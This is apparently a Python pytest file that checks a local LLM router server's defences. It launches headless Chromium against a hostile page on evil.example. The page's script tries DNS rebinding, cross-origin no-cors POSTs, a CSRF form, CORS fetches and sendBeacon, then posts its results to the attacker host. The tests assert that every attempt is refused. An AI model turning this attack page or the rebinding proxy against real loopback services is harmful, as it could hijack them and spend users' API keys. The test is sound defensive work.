"""Issue 10 in a real browser: a hostile page in headless Chromium tries every way it has to
use the loopback server, and none gets through. Skipped where Chromium is not installed (CI
installs only the Python dependencies; `apt-get install chromium` runs it locally).

The page comes from an "attacker" server at http://evil.example:PORT (Chromium resolves the
name to 127.0.0.1). Whatever that server does not serve itself it hands to the router with the
browser's own Host header: from the browser's view the name now points at the router, which is
what DNS rebinding achieves. The page also sends cross-origin requests straight to the router,
then reports what it could read.
"""

from __future__ import annotations

import asyncio
import json
import shutil
import signal
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import AsyncExitStack
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
from server_helpers import serving

from llmrouter_tui.core.runtime import Runtime
from llmrouter_tui.server.app import create_app
from llmrouter_tui.server.types import ASGIApp, Message, Receive, Scope, Send
from llmrouter_tui.testing.fake_upstream import FakeUpstream

CHROMIUM = next(
    (p for p in map(shutil.which, ("chromium", "chromium-browser", "google-chrome")) if p), None
)
pytestmark = [
    pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed"),
    pytest.mark.slow,  # drives Chromium against a --serve process
]

GROQ = "openai/gpt-oss-20b"
WAIT_S = 60  # a bound for a stuck browser, not a timing assertion

PAGE = """<!doctype html><meta charset="utf-8"><title>evil</title>
<iframe name="sink"></iframe>
<form id="rate" method="post" target="sink" enctype="application/x-www-form-urlencoded"
      action="ROUTER/rate?prompt_id=PROMPT_ID&score=1"></form>
<script>
const router = "ROUTER";
const chat = "/chat?model=MODEL";
const json = JSON.stringify({prompt: "from the evil page"});
const out = {};
async function attempt(name, run) {
  try { out[name] = await run(); } catch (error) { out[name] = "blocked: " + error.name; }
}
async function readable(response) {
  return response.status + " " + (await response.text()).slice(0, 300);
}
(async () => {
  // After rebinding: same-origin requests, which the browser lets the page read.
  await attempt("rebound_stats", async () => readable(await fetch("/stats")));
  await attempt("rebound_chat", async () => readable(await fetch(chat, {
    method: "POST", headers: {"Content-Type": "application/json"}, body: json})));
  // Cross-origin requests that need no preflight: the page cannot read the answers, but
  // the server would act on them.
  await attempt("text_plain", async () =>
    (await fetch(router + chat, {method: "POST", mode: "no-cors", body: json})).type);
  await attempt("blob", async () =>
    (await fetch(router + chat, {method: "POST", mode: "no-cors", body: new Blob([json])})).type);
  await attempt("form", () => new Promise(done => {
    document.querySelector("iframe").onload = () => done("submitted");
    document.getElementById("rate").submit();
  }));
  // A CORS request: the preflight must be refused unless the origin is listed.
  await attempt("cors_chat", async () => readable(await fetch(router + chat, {
    method: "POST", headers: {"Content-Type": "application/json"}, body: json})));
  await attempt("cors_stats", async () => readable(await fetch(router + "/stats")));
  out.beacon = navigator.sendBeacon(router + "/v1/chat/completions",
    JSON.stringify({messages: [{role: "user", content: "beacon"}]}));
  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
})();
</script>"""


@dataclass
class Seen:
    """What the router answered, request by request (method, path, status)."""

    requests: list[tuple[str, str, int]] = field(default_factory=list)
    changed: asyncio.Event = field(default_factory=asyncio.Event)

    def wrap(self, app: ASGIApp) -> ASGIApp:
        async def recorded(scope: Scope, receive: Receive, send: Send) -> None:
            if scope["type"] != "http":
                await app(scope, receive, send)
                return

            async def sending(message: Message) -> None:
                if message["type"] == "http.response.start":
                    self.requests.append((scope["method"], scope["path"], message["status"]))
                    self.changed.set()
                await send(message)

            await app(scope, receive, sending)

        return recorded

    async def wait_for(self, method: str, path: str) -> int:
        """The status of the first `method path` the router answered (waits for it)."""
        async with asyncio.timeout(WAIT_S):
            while True:
                for seen in self.requests:
                    if seen[:2] == (method, path):
                        return seen[2]
                self.changed.clear()
                await self.changed.wait()


class Attacker:
    """Serves the page and takes its report; hands every other request to the router with
    the browser's Host header (the rebinding)."""

    def __init__(self) -> None:
        self.router = ""  # set once the router listens
        self.prompt_id = ""
        self.reports: asyncio.Queue[dict[str, Any]] = asyncio.Queue()

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] == "lifespan":
            while (await receive())["type"] != "lifespan.shutdown":
                await send({"type": "lifespan.startup.complete"})
            await send({"type": "lifespan.shutdown.complete"})
            return
        body = b""
        while True:
            message = await receive()
            body += message.get("body", b"")
            if not message.get("more_body"):
                break
        path = scope["path"]
        if path == "/page":
            html = PAGE.replace("ROUTER", self.router).replace("MODEL", GROQ)
            await _answer(
                send, 200, html.replace("PROMPT_ID", self.prompt_id).encode(), "text/html"
            )
        elif path == "/report":
            await self.reports.put(json.loads(body))
            await _answer(send, 204, b"", None)
        elif path == "/favicon.ico":
            await _answer(send, 404, b"", None)
        else:
            hop = {b"content-length", b"connection", b"transfer-encoding", b"accept-encoding"}
            headers = [(k, v) for k, v in scope["headers"] if k not in hop]  # Host kept
            async with httpx.AsyncClient(timeout=20) as client:
                url = self.router + path
                if scope["query_string"]:
                    url += "?" + scope["query_string"].decode()
                forwarded = await client.request(
                    scope["method"], url, headers=headers, content=body
                )
            ctype = forwarded.headers.get("content-type")
            await _answer(send, forwarded.status_code, forwarded.content, ctype)


async def _answer(send: Send, status: int, body: bytes, ctype: str | None) -> None:
    headers = [(b"content-length", b"%d" % len(body))]
    if ctype:
        headers.append((b"content-type", ctype.encode()))
    await send({"type": "http.response.start", "status": status, "headers": headers})
    await send({"type": "http.response.body", "body": body})


async def visit(url: str, workdir: Path) -> None:
    """Show `url` in headless Chromium until cancelled; AssertionError if Chromium quits."""
    assert CHROMIUM is not None
    log = workdir / "chromium.log"
    with log.open("wb") as stderr:
        proc = await asyncio.create_subprocess_exec(
            CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
            "--no-default-browser-check", "--disable-extensions",
            "--disable-background-networking", f"--user-data-dir={workdir / 'profile'}",
            "--host-resolver-rules=MAP evil.example 127.0.0.1",
            "--disable-features=HttpsUpgrades,HttpsFirstBalancedModeAutoEnable", url,
            stdout=asyncio.subprocess.DEVNULL, stderr=stderr,
        )  # fmt: skip
    try:
        code = await proc.wait()
        raise AssertionError(f"Chromium quit ({code}):\n{log.read_text(errors='replace')[-2000:]}")
    finally:
        if proc.returncode is None:
            proc.send_signal(signal.SIGTERM)
            try:
                async with asyncio.timeout(10):
                    await proc.wait()
            except TimeoutError:
                proc.kill()
                await proc.wait()


@dataclass
class Attack:
    report: dict[str, Any]
    seen: Seen
    runtime: Runtime
    prompt_id: str


@pytest.fixture
async def attack(
    make_runtime: Callable[..., Runtime], upstream: FakeUpstream, tmp_path: Path
) -> AsyncIterator[Callable[..., Awaitable[Attack]]]:
    async with AsyncExitStack() as stack:

        async def run(**app_kw: Any) -> Attack:
            runtime = make_runtime()
            seen = Seen()
            attacker = Attacker()
            evil = await stack.enter_async_context(serving(attacker))
            origin = f"http://evil.example:{evil.port}"
            app = create_app(runtime, token="", **{k: v(origin) for k, v in app_kw.items()})
            router = await stack.enter_async_context(serving(seen.wrap(app)))
            async with httpx.AsyncClient(base_url=router.url, timeout=20) as client:
                reply = await client.post(f"/chat?model={GROQ}", json={"prompt": "to rate"})
            prompt_id = reply.json()["prompt_id"]
            upstream.clear()
            seen.requests.clear()
            attacker.router, attacker.prompt_id = router.url, prompt_id
            browser = asyncio.create_task(visit(f"{origin}/page", tmp_path))
            reported = asyncio.ensure_future(attacker.reports.get())
            try:
                async with asyncio.timeout(WAIT_S):
                    await asyncio.wait({browser, reported}, return_when=asyncio.FIRST_COMPLETED)
                if browser.done():
                    browser.result()  # raises: Chromium quit before the page reported
                await seen.wait_for("POST", "/v1/chat/completions")  # the beacon, sent last
            finally:
                for task in (browser, reported):
                    task.cancel()
                await asyncio.gather(browser, reported, return_exceptions=True)
            return Attack(reported.result(), seen, runtime, prompt_id)

        yield run


Attacking = Callable[..., Awaitable[Attack]]


async def test_a_hostile_page_in_chromium_gets_nothing_through(
    attack: Attacking, upstream: FakeUpstream
) -> None:
    result = await attack()
    report = result.report
    assert report["rebound_stats"].startswith("421 "), report  # read by the page: refused
    assert "DNS rebinding" in report["rebound_stats"]
    assert report["rebound_chat"].startswith("421 "), report
    assert report["cors_chat"] == "blocked: TypeError", report  # preflight refused
    assert report["cors_stats"] == "blocked: TypeError", report  # no CORS headers
    statuses = {(m, p): s for m, p, s in result.seen.requests}
    assert statuses[("POST", "/chat")] == 403  # the no-cors posts, refused by Origin
    assert statuses[("POST", "/rate")] == 403
    assert statuses[("POST", "/v1/chat/completions")] == 403  # sendBeacon
    assert statuses[("OPTIONS", "/chat")] == 403  # the preflight
    assert {s for m, p, s in result.seen.requests} <= {403, 421}, result.seen.requests
    assert upstream.requests == []  # no provider was called with the user's key
    assert result.runtime.store.get_rating(result.prompt_id) is None


async def test_a_page_listed_with_cors_origin_can_use_it_from_chromium(attack: Attacking) -> None:
    # The same page, deliberately let in: proves the browser harness can see success.
    result = await attack(cors_origins=lambda origin: [origin])
    report = result.report
    assert report["cors_chat"].startswith("200 "), report
    assert "from the evil page" in report["cors_chat"]
    assert report["cors_stats"].startswith("200 "), report
    assert report["rebound_stats"].startswith("421 "), report  # the Host rule still holds
    # Bodies that are not JSON stay refused even from a listed page.
    assert ("POST", "/v1/chat/completions", 415) in result.seen.requests
